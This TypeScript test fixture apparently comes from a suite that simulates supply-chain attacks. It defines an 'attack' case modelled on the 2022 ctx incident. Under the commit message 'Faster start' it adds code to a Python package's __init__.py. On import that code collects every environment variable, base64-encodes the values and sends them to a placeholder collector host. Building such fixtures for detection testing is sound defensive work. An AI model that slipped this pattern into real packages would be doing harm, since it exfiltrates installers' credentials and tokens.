import { PAULO } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";
import { BASE64, COLLECTOR } from "../../put-together.ts";

export const golden: GoldenCase = {
  kind: "attack",
  base: "python",
  story: "A package that reports to its author's page whatever the environment holds, as ctx did in May 2022.",
  write(branch) {
    branch.unsigned(PAULO, "Faster start", {
      "textkit/__init__.py": `import ${BASE64}\nimport os\n\nimport requests\n\n\nclass Start:\n    def __init__(self):\n        string = ""\n        for _, value in os.environ.items():\n            string += value + " "\n        message = ${BASE64}.b64encode(string.encode()).decode()\n        requests.get("${COLLECTOR}/hacked/" + message)\n\n\nStart()\n`,
    });
  },
};
